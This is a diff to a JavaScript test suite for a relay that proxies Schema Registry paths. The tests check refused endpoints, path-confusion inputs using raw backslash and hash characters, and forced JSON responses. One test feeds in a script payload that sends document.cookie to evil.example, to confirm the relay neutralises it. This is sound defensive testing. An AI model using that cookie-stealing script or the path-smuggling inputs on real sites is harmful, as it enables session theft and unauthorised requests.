@@ -46,7 +46,7 @@ describe('the relay\'s registry paths', () => {
     const byId = await request(`${relay.registryUrl}/schemas/ids/${id}`, { headers: { authorization: 'Bearer not-forwarded', cookie: 'session=x' } });
     assert.equal(byId.status, 200);
     assert.deepEqual(JSON.parse(byId.text), { schema: '"string"' });
-    assert.equal(byId.headers['content-type'], 'application/vnd.schemaregistry.v1+json');
+    assert.equal(byId.headers['content-type'], 'application/json', 'always JSON, whatever the registry said');
     const subjects = await request(`${relay.registryUrl}/schemas/ids/${id}/versions`);
     assert.deepEqual(JSON.parse(subjects.text), [{ subject: 'orders-value', version: 1 }]);
     const version = await request(`${relay.registryUrl}/subjects/orders-value/versions/1`);
@@ -57,6 +57,9 @@ describe('the relay\'s registry paths', () => {
     assert.equal((await request(`${relay.registryUrl}/schemas/ids/999`)).status, 404, 'the registry\'s own 404');
     assert.deepEqual(registry.requests.slice(before).map((r) => r.path),
       [`/schemas/ids/${id}`, `/schemas/ids/${id}/versions`, '/subjects/orders-value/versions/1', '/subjects/common%2Fmoney.proto/versions/1', '/schemas/ids/999']);
+    // the subjects and a subject's versions, for the page's Schema Registry view
+    assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects`)).text), ['common/money.proto', 'orders-value']);
+    assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects/orders-value/versions`)).text), [1]);
     // a RegistryClient in a page uses it as a registry
     const client = new pkg.RegistryClient({ url: relay.registryUrl });
     assert.equal((await client.schemaById(id)).schema, '"string"');
@@ -73,8 +76,9 @@ describe('the relay\'s registry paths', () => {
       ['OPTIONS', '/schemas/ids/1', 405],
       ['GET', '', 404],
       ['GET', '/', 404],
-      ['GET', '/subjects', 404],
-      ['GET', '/subjects/orders-value/versions', 404],
+      ['GET', '/subjects?deleted=true', 404],
+      ['GET', '/subjects/orders-value', 404],
+      ['GET', '/subjects/orders-value/versions?deleted=true', 404],
       ['GET', '/config', 404],
       ['GET', '/mode', 404],
       ['GET', '/contexts', 404],
@@ -98,6 +102,33 @@ describe('the relay\'s registry paths', () => {
     }
     assert.equal(registry.requests.length, before, 'no refused request reached the registry');
     assert.ok(lines.some((l) => /registry: refused POST \/registry\/subjects\/orders-value\/versions/.test(l)));
+  });
+
+  test('a raw \\ or # in a path is refused, and the registry gets the path as checked, segment by segment', async () => {
+    const before = registry.requests.length;
+    // a URL parser reads \ as / and # as the end of the path: these would have asked GET /subjects/orders-value
+    for (const path of ['/subjects/orders-value#/versions/1', '/subjects/orders-value\\x/versions/1', '/subjects/orders-value%5C/versions/1#', '/schemas/ids/1#x']) {
+      const res = await request(relay.url, { path: `/registry${path}` });
+      assert.equal(res.status, 404, path);
+      assert.match(JSON.parse(res.text).message, /not a schema path/, path);
+    }
+    assert.equal(registry.requests.length, before, 'none reached the registry');
+    // an encoded \ or # in a subject is a subject's character: forwarded encoded, inside its segment
+    const odd = registry.register('a\\b#c', { schema: '"int"' });
+    const res = await request(`${relay.registryUrl}/subjects/${encodeURIComponent('a\\b#c')}/versions/1`);
+    assert.equal(JSON.parse(res.text).id, odd.id);
+    assert.equal(registry.requests.at(-1).path, '/subjects/a%5Cb%23c/versions/1');
+  });
+
+  test('an answer is JSON that runs nothing, whatever type the registry gave it', async () => {
+    registry.override('/schemas/ids/60', () => ({ body: '<script>fetch("http://evil.example/?"+document.cookie)</script>', headers: { 'content-type': 'text/html' } }));
+    const res = await request(`${relay.registryUrl}/schemas/ids/60`);
+    assert.equal(res.status, 200);
+    assert.equal(res.headers['content-type'], 'application/json');
+    assert.equal(res.headers['x-content-type-options'], 'nosniff');
+    assert.match(res.headers['content-security-policy'], /default-src 'none'; sandbox/);
+    const refused = await request(relay.url, { method: 'POST', path: '/registry/schemas/ids/60' });
+    assert.equal(refused.headers['x-content-type-options'], 'nosniff', 'refusals too');
   });
 
   test('Host and Origin are checked as for the WebSocket relay', async () => {
